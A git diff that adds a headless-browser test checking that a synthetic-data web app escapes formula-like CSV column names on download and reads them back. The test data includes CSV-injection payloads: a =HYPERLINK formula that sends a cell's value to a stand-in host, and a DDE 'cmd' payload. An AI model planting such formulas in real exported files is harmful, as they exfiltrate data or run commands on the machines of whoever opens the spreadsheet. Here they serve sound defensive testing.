@@ -5,6 +5,7 @@
  */
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
+import Papa from 'papaparse';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { downloadCsv, dropFile, generate, loadDemo, parseCsvText, selectGenerator, setField, waitIdle } from '../support/app-driver.js';
@@ -124,6 +125,29 @@ describe.skipIf(skip !== null)('LocalSynth web app (built, headless Chromium)', 
     await g.context.close();
   });
 
+  it('column names a spreadsheet would run (=HYPERLINK, +cmd|, @SUM, -2+3) are escaped in the download, and read back', async () => {
+    const g = await openApp(h);
+    const page: Page = g.page;
+    const names = ['=HYPERLINK("http://evil.example/?d="&B2,"open")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', 'plain'];
+    const rows = Array.from({ length: 40 }, (_, i) => [(i * 7) % 23, i % 3 === 0 ? 'a' : 'b', ['x', 'y', 'z'][i % 3], ((i * 13) % 17) / 4, 20 + (i % 9)].join(','));
+    await dropFile(page, 'formulas.csv', [Papa.unparse([names]), ...rows].join('\n') + '\n');
+    await expect.poll(() => page.getByTestId('shape').textContent()).toBe('40 rows × 5 columns');
+    await selectGenerator(page, 'knnmtd');
+    await setQuick(page, '25');
+    await generate(page);
+    expect(await page.getByTestId('error').count()).toBe(0);
+    const { bytes } = await downloadCsv(page);
+    const text = bytes.toString('utf8');
+    // as a spreadsheet sees the file: every formula-like name behind a ', i.e. text
+    expect(parseCsvText(text).header).toEqual(names.map((n) => (n === 'plain' ? n : `'${n}`)));
+    expect(parseCsvText(text).rows.length).toBe(25);
+    // and LocalSynth reads its own file back under the original names
+    await dropFile(page, 'formulas.synthetic.csv', text);
+    await expect.poll(() => page.getByTestId('shape').textContent()).toBe('25 rows × 5 columns');
+    expect(await page.locator('tr[data-column]').evaluateAll((trs) => trs.map((tr) => tr.getAttribute('data-column')))).toEqual(names);
+    expectClean(g);
+    await g.context.close();
+  });
   it('Cancel stops a long run ("Cancelled."), keeps the last result, and a later Generate works', async () => {
     const g = await openApp(h);
     const page = g.page;
